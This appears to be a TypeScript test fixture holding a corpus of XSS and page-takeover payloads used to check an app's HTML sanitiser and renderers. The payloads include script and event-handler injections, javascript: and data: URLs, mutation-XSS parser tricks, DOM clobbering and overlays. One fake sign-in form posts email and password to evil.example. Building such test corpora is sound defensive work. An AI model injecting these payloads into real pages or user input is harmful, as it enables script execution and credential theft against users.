/*
 * A corpus of known XSS and page-takeover payloads, shared by the browser test (tests/e2e/xss-corpus.spec.ts: a few of
 * them, through every place the app shows HTML from data, in Chromium) and the unit test
 * (tests/unit/shared/xssCorpus.test.tsx: all of them, through the sanitiser and every renderer). Free of Playwright,
 * so that Vitest can import it.
 */

declare global {
  interface Window {
    __xss?: unknown;
  }
}

/**
 * Code a payload runs if it gets the chance: it marks the page (frames reach it through `top`). Written without quotes
 * or spaces, so it also fits an unquoted or single-quoted attribute.
 */
export const run = (id: string) => `top.__xss=/${id}/.source`;

export const CORPUS: Array<[string, (code: string) => string]> = [
  ['script tag', (c) => `<script>${c}</script>`],
  ['img onerror', (c) => `<img src="x" onerror="${c}">`],
  ['img onerror, no quotes', (c) => `<img src=x onerror=${c}>`],
  ['svg onload', (c) => `<svg onload="${c}"></svg>`],
  ['body onload', () => '<body onload="alert(document.domain)">'],
  ['svg with script', (c) => `<svg><script>${c}</script></svg>`],
  ['svg animate onbegin', (c) => `<svg><animate onbegin="${c}" attributeName="x" dur="1s"/></svg>`],
  ['javascript: link', (c) => `<a href="javascript:${c}">javascript link</a>`],
  ['javascript: link, entities and case', (c) => `<a href="&#x20;JaVa&#x09;ScRiPt&colon;${c}">obfuscated link</a>`],
  ['vbscript: link', () => '<a href="vbscript:msgbox(1)">vbscript link</a>'],
  ['data:text/html link', (c) => `<a href="data:text/html,<script>${c}</script>">data link</a>`],
  ['data:text/html image', (c) => `<img src="data:text/html,<script>${c}</script>">`],
  ['SVG data image', (c) => `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${c}'/>">`],
  ['iframe javascript:', (c) => `<iframe src="javascript:${c}"></iframe>`],
  ['iframe srcdoc', (c) => `<iframe srcdoc="<script>${c}</script>"></iframe>`],
  [
    'object and embed',
    (c) =>
      `<object data="data:text/html,<script>${c}</script>"></object><embed src="data:text/html,<script>${c}</script>">`,
  ],
  ['CSS overlay', () => '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Your session expired</div>'],
  [
    'invisible link over the page',
    () =>
      '<a href="https://evil.example/" style="position:fixed;top:0;left:0;width:100vw;height:100vh;display:block;z-index:99999"></a>',
  ],
  [
    'absolute overlay',
    () => '<p style="position:absolute;top:0;left:0;width:2000px;height:2000px;z-index:99999;background:red">cover</p>',
  ],
  [
    'fake sign-in form',
    () =>
      '<form action="https://evil.example/c" method="post">Session expired <input name="email"><input type="password" name="pw"><button>Sign in</button></form>',
  ],
  [
    'autofocus onfocus',
    (c) =>
      `<input autofocus onfocus="${c}"><textarea autofocus onfocus="${c}"></textarea><select autofocus onfocus="${c}"></select>`,
  ],
  ['details ontoggle', () => '<details open ontoggle="alert(1)"><summary>s</summary></details>'],
  ['video source onerror', (c) => `<video><source onerror="${c}"></video><audio src="x" onerror="${c}"></audio>`],
  ['meta refresh', () => '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['base href', () => '<base href="https://evil.example/"><a href="/relative">relative</a>'],
  [
    'style and link tags',
    () => '<style>body{display:none}</style><link rel="stylesheet" href="data:text/css,body{display:none}">',
  ],
  ['noscript title breakout (mXSS)', (c) => `<noscript><p title="</noscript><img src=x onerror=${c}>"></noscript>`],
  ['svg style img (mXSS)', (c) => `<svg><style><img src=x onerror="${c}"></style></svg>`],
  ['math mglyph style (mXSS)', (c) => `<math><mtext><table><mglyph><style><img src=x onerror="${c}">`],
  ['form math nesting (mXSS)', (c) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${c}">`],
  ['attribute breakout', (c) => `<p title="</p><img src=x onerror=${c}>">title</p>`],
  ['template content', (c) => `<template><img src=x onerror="${c}"></template>`],
  ['DOM clobbering', () => '<img id="__xss" name="__xss"><a id="__xss" href="https://evil.example/">clobber</a>'],
  ['tracking image', () => '<img src="https://tracker.evil.example/pixel.gif" alt="">'],
];

export const PAYLOADS = CORPUS.map(([name, make], index) => {
  const id = `p${String(index + 1).padStart(2, '0')}`;
  return { id, name, html: `<p>marker ${id}</p>${make(run(id))}` };
});
export type Payload = (typeof PAYLOADS)[number];

/**
 * Tags the HTML policy allows; a sink shows nothing else. Written out here, not read from the policy
 * (src/contract/html.ts), so that a policy that lets more through fails.
 */
export const ALLOWED = new Set([
  'p',
  'br',
  'hr',
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'strong',
  'em',
  'u',
  's',
  'code',
  'pre',
  'blockquote',
  'ul',
  'ol',
  'li',
  'a',
  'img',
]);

/** Addresses a sink may keep, as the browser reads them (scheme, or the start of a data URL). */
export const SAFE_ADDRESS = /^(https?:|mailto:|tel:|data:image\/(png|jpeg|gif|webp))/;

/**
 * The payloads the browser test still sends through every sink, to prove the wiring (each sink cleans, the e-mail
 * frame is sandboxed, the server and the page agree): a script, a handler, a script URL, an overlay, a parser
 * differential (mutation XSS, where Chromium's parser is what counts) and a tracking image (the e-mail's "Show images").
 */
export const WIRING_PAYLOADS = [
  'script tag',
  'img onerror, no quotes',
  'javascript: link, entities and case',
  'CSS overlay',
  'noscript title breakout (mXSS)',
  'tracking image',
].map((name) => {
  const payload = PAYLOADS.find((candidate) => candidate.name === name);
  if (!payload) throw new Error(`No payload named ${name}`);
  return payload;
});
